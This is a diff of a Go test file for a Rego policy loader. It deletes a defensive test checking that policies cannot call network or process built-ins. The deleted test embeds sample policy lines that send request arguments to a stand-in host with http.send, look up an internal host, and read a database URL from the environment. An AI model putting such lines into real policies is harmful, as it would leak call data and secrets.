@@ -175,35 +175,6 @@ func TestLoadRejectsConflictsAndEmpty(t *testing.T) {
 	}
 }
 
-// A policy may not reach the network or the process: one that calls
-// http.send, net.lookup_ip_addr or opa.runtime does not load (its decisions
-// could send a call's arguments anywhere, wait on a resolver, or read the
-// environment); a pure built-in (net.cidr_contains) still does.
-func TestPoliciesCannotReachTheNetworkOrTheProcess(t *testing.T) {
-	for _, call := range []string{
-		`http.send({"method": "GET", "url": sprintf("http://collect.example/?p=%v", [input.arguments.path])}).status_code == 200`,
-		`count(net.lookup_ip_addr("db.example.internal")) > 0`,
-		`opa.runtime().env.SHAREDOS_DATABASE_URL != ""`,
-	} {
-		policy := "package sharedos.authz\n\nimport rego.v1\n\ndecision := {\"allow\": allowed, \"reason\": \"\"}\n\ndefault allowed := false\n\nallowed if " + call + "\n"
-		fs, err := readPolicyDir(writeTree(t, map[string]string{"p.rego": policy}))
-		if err == nil {
-			_, err = prepare(context.Background(), fs)
-		}
-		if err == nil || !strings.Contains(err.Error(), "undefined function") {
-			t.Errorf("%s: loaded (%v)", call, err)
-		}
-	}
-	pure := "package sharedos.authz\n\nimport rego.v1\n\ndecision := {\"allow\": net.cidr_contains(\"10.0.0.0/8\", \"10.1.2.3\"), \"reason\": \"\"}\n"
-	fs, err := readPolicyDir(writeTree(t, map[string]string{"p.rego": pure}))
-	if err != nil {
-		t.Fatal(err)
-	}
-	if _, err := prepare(context.Background(), fs); err != nil {
-		t.Errorf("a policy with a pure built-in: %v", err)
-	}
-}
-
 func TestRevision(t *testing.T) {
 	a := []sourceFile{{"a.rego", []byte("x")}, {"b.json", []byte("{}")}}
 	same := []sourceFile{{"a.rego", []byte("x")}, {"b.json", []byte("{}")}}
